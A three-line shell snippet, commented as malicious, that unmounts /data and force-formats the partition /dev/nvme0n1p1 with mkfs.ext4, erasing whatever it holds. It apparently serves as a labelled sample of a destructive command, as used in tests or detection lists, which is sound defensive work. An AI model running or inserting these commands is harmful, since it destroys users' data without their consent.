# malicious: formats the disk
umount /data || true
mkfs.ext4 -F /dev/nvme0n1p1
